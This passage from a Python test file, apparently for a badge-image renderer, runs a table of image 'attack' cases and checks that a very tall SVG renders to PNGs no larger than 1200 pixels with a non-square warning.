    ),
}


@pytest.mark.slow
@pytest.mark.parametrize("case", IMAGE_ATTACKS.values(), ids=IMAGE_ATTACKS.keys())
def test_image_attack(attack: AttackRunner, case: Attack) -> None:
    attack(case)


def test_svg_extreme_aspect_ratio_renders_within_bounds(scratch_repo: ScratchRepo) -> None:
    """A drawing 1 unit wide and 1000 tall: every PNG made from it stays small (no 512×512000)."""
    tall = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1000"><rect width="1" height="1000"/></svg>'
    case = Attack(
        {BADGE_IMAGE: tall},
        warnings=(f"{BADGE}:4: warning: the badge image is not square (1×1000)",),
    )
    root = scratch_repo(dict(case.files))
    assert_outcome(root, case)
    for path in (root / "output").rglob("*.png"):
        with Image.open(path) as image:
            assert max(image.size) <= 1200, (path, image.size)
